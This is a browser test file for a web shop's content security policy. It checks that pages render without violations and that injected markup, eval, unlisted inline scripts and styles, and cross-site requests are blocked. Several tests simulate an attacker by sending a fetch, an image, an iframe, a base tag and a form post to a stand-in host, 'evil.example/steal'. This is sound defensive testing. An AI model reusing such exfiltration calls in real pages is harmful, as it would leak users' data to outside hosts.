import { beforeAll, describe, expect, it } from 'vitest';
import type { Article } from '#contract/articles.ts';
import { newCustomer } from '#tests/support/browser/customer.ts';
import { settled } from '#tests/support/browser/pages.ts';
import { shareShop } from '#tests/support/browser/running-shop.ts';
import { forFile } from '#tests/support/server/for-file.ts';

/** The content security policy allows all that the pages need, and blocks injected code. */

const shop = forFile(await shareShop());
const visitor = await shop.visitor({ reducedMotion: 'reduce' });
await (await newCustomer(shop.url)).signInto(visitor.context);
const page = visitor.page;
await visitor.context.addInitScript(() => {
  const seen: string[] = [];
  Object.assign(window, { violations: seen });
  addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    seen.push(`${effectiveDirective} ${blockedURI}`);
  });
});

const violations = () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);

describe('the pages', () => {
  // The sweeps check the shop's pages for violations. /flows is a page for developers, so it is checked here.
  it('shows the shop’s flows without a violation', async () => {
    await page.goto('/flows?inspect=flows');
    await settled(page);
    expect(await violations()).toEqual([]);
    expect(visitor.consoleOutput).toEqual([]);
  });

  it('applies the styles of pages and toasts, and changes the colour scheme', async () => {
    await page.goto('/blog-subscribe');
    await settled(page);
    const background = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    const dark = await background();
    await page.getByRole('button', { name: 'Light mode' }).click();
    await expect.poll(background).not.toBe(dark);
    await expect.poll(() => page.evaluate(() => document.documentElement.hasAttribute('data-still'))).toBe(false);
    await page.getByRole('contentinfo').getByRole('button', { name: 'Subscribe', exact: true }).click();
    const toast = page.locator('.notistack-SnackbarContainer');
    await toast.waitFor();
    expect(await toast.evaluate((element) => getComputedStyle(element).position)).toBe('fixed');
    expect(await violations()).toEqual([]);
  });

  it('decodes the character references of an article', async () => {
    await page.route('**/v1/article/9/get*', async (route) => {
      const answer = (await (await route.fetch()).json()) as { message: Article };
      const message = { ...answer.message, content: 'Half is &frac12;, &copy; the shop, and &nosuchthing; stays.' };
      await route.fulfill({ json: { success: 1, message } });
    });
    await page.goto('/article/9');
    await page.getByText('Half is ½, © the shop, and &nosuchthing; stays.').waitFor();
    expect(await violations()).toEqual([]);
  });
});

/** Runs code in the page, as an attacker could, and returns its result. */
const attempt = <T>(what: () => T) => page.evaluate(what);

describe('the policy', () => {
  beforeAll(async () => {
    await page.goto('/');
    await settled(page);
  });

  it('contains neither unsafe-inline nor unsafe-eval, and is the same on cached pages', async () => {
    const ask = async () => {
      const response = await page.request.get('/');
      return response.headers()['content-security-policy'] ?? '';
    };
    const [first, second] = [await ask(), await ask()];
    expect(first).not.toContain('unsafe');
    expect(first).not.toContain('nonce');
    expect(first).toBe(second);
  });

  it('blocks markup, scripts and handlers that are made from text', async () => {
    const refused = await attempt(async () => {
      const tried = new Map<string, () => unknown>([
        ['innerHTML', () => Object.assign(document.createElement('div'), { innerHTML: '<b>hello</b>' })],
        ['insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>hello</b>')],
        ['srcdoc', () => Object.assign(document.createElement('iframe'), { srcdoc: '<b>hello</b>' })],
        ['a script of text', () => Object.assign(document.createElement('script'), { text: '1' })],
        ['a script from elsewhere', () => Object.assign(document.createElement('script'), { src: '/x.js' })],
        ['a handler', () => document.createElement('div').setAttribute('onclick', '1')],
        ['another policy', () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {})],
        ['one for everything', () => Reflect.get(window, 'trustedTypes').createPolicy('default', {})],
      ]);
      const names = [];
      for (const [name, act] of tried) {
        try {
          act();
        } catch (error) {
          if (error instanceof TypeError) names.push(name);
        }
      }
      // In a timer, because code that a debugger evaluates may always use eval.
      const evaluated = await new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            resolve(String(Reflect.get(window, 'eval')('1')));
          } catch {
            resolve('eval');
          }
        });
      });
      return [...names, evaluated];
    });
    expect(refused).toEqual([
      'innerHTML',
      'insertAdjacentHTML',
      'srcdoc',
      'a script of text',
      'a script from elsewhere',
      'a handler',
      'another policy',
      'one for everything',
      'eval',
    ]);
  });

  it('blocks inline scripts and styles whose hashes are not listed', async () => {
    const drawn = await attempt(() => {
      const script = document.createElement('script');
      try {
        script.append("document.title = 'taken over'");
        document.head.append(script);
      } catch {
        // The browser may refuse to create the script, which is sufficient.
      }
      const style = document.createElement('style');
      style.append('body { outline: 7px solid red }');
      document.head.append(style);
      document.body.setAttribute('style', 'border-left: 7px solid red');
      const { outlineWidth, borderLeftWidth } = getComputedStyle(document.body);
      return { title: document.title, outlineWidth, borderLeftWidth };
    });
    expect(drawn.title).not.toBe('taken over');
    expect([drawn.outlineWidth, drawn.borderLeftWidth]).not.toContain('7px');
    const seen = (await violations()).join('\n');
    for (const directive of ['style-src-elem inline', 'style-src-attr inline']) expect(seen).toContain(directive);
  });

  it('blocks requests to other sites, and any change of the page’s base', async () => {
    await attempt(async () => {
      await fetch('https://evil.example/steal').catch(() => {});
      const image = Object.assign(new Image(), { src: 'https://evil.example/pixel.png' });
      document.body.append(image);
      const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
      document.head.prepend(base);
      const frame = Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' });
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
      document.body.append(form);
      form.submit();
    });
    for (const directive of ['connect-src', 'img-src', 'base-uri', 'frame-src', 'form-action'])
      await expect.poll(async () => (await violations()).join('\n')).toContain(`${directive} `);
    expect(await page.evaluate(() => document.baseURI)).toContain(shop.url);
  });

  it('applies to the API’s description, whose style is listed', async () => {
    await page.goto('/v1/docs');
    expect(
      await page.evaluate(() => getComputedStyle(document.querySelector('details') as Element).borderRadius),
    ).not.toBe('0px');
    expect(await violations()).toEqual([]);
  });
});
